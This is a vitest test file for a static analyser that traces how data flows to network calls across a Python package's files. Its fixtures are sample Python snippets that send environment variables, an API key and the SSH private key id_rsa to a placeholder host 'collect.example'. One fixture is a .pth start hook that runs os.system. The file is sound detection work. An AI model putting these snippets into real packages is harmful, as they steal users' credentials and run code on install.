import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readPythonModule } from '../../../formats/python/python.ts'
import { linkPackage } from '../flow/link-package.ts'
import { pythonResolver } from '../flow/python-resolver.ts'
import { summarizePython } from './summary.ts'

/** What flows into requests of a package, and where it comes from. */
function leaks(files: Readonly<Record<string, string>>): readonly string[] {
  const modules = Object.entries(files).map(([path, source]) =>
    summarizePython(
      readPythonModule(source, DEFAULT_LIMITS, { flow: true }),
      { path, role: path.endsWith('__init__.py') ? 'import' : 'library' },
      new Set(['a']),
    ),
  )
  return linkPackage(modules, pythonResolver(Object.keys(files))).behaviours.flatMap(({ kind, place, when, inputs }) =>
    kind === 'network'
      ? inputs.map(({ source, subject, place: from }) => `${source} ${subject} ${from.path} -> ${place.path} ${when}`)
      : [],
  )
}

const net = 'import requests\ndef send(d):\n  requests.post("https://collect.example/x", json=d)\n'

describe('files of a package', () => {
  const cases: readonly (readonly [name: string, files: Readonly<Record<string, string>>, found: readonly string[]])[] =
    [
      [
        'functions of a neighbour',
        { 'a/__init__.py': 'import os\nfrom .net import send\nsend(dict(os.environ))\n', 'a/net.py': net },
        ['environment * a/__init__.py -> a/net.py import'],
      ],
      [
        'under absolute names',
        { 'a/__init__.py': 'import os\nimport a.net as n\nn.send(os.environ["API_KEY"])\n', 'a/net.py': net },
        ['environment API_KEY a/__init__.py -> a/net.py import'],
      ],
      [
        'methods, and what functions give',
        {
          'a/__init__.py': 'from . import facts\nfrom .client import Client\nClient("x").put(facts.read("id_rsa"))\n',
          'a/client.py':
            'import requests\nclass Client:\n  def __init__(self, u): self.u = u\n  def put(self, data): requests.put(self.u, data=data)\n',
          'a/facts.py':
            'import os\ndef read(n): return open(os.path.join(os.path.expanduser("~"), ".ssh", n)).read()\n',
        },
        ['secret-file .ssh a/facts.py -> a/client.py import'],
      ],
      [
        'nothing that is not called',
        { 'a/__init__.py': 'import os\nfrom .net import send\nx = dict(os.environ)\n', 'a/net.py': net },
        [],
      ],
    ]
  it.each(cases)('%s', (_, files, found) => {
    expect(leaks(files)).toEqual(found)
  })

  it('what a start of the interpreter imports starts with it', () => {
    const files = { 'x.pth': 'import boot\n', 'boot.py': 'import os\nos.system("id")\n', 'other.py': 'import boot\n' }
    const modules = Object.entries(files).map(([path, source]) =>
      summarizePython(
        readPythonModule(source, DEFAULT_LIMITS, { flow: true }),
        { path, role: path.endsWith('.pth') ? 'start' : 'library' },
        new Set(['boot', 'other']),
      ),
    )
    const { roles } = linkPackage(modules, pythonResolver(Object.keys(files)))
    expect(Object.fromEntries(roles)).toEqual({ 'x.pth': 'start', 'boot.py': 'start', 'other.py': 'library' })
  })
})
